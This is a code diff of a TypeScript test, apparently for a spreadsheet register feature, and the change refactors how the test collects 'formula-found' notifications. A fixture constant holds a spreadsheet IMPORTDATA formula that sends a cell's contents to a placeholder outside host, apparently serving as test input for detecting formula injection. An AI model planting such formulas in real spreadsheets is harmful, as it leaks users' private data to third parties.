@@ -5,11 +5,11 @@ import { sheetsSlice } from "../../scripts/workspace/sheets/store";
 import type { TabId } from "../../src/register/columns";
 import { Day } from "../day/day";
 import { reportOn, tick } from "../day/events";
-import { recipients } from "../day/look";
+import { mails, recipients } from "../day/look";
 import { admin, contact, lead } from "../day/people";
 
 const leaks = '=IMPORTDATA("https://a.example/?q="&Cases!H3)';
-const told = (day: Day) => day.out().inbox.filter(({ message }) => message === "formula-found");
+const told = (day: Day) => mails(day.out(), "formula-found");
 
 /** The cells of a tab of the main register that hold a formula, as the sheet keeps them. */
 function formulas(day: Day): readonly string[] {
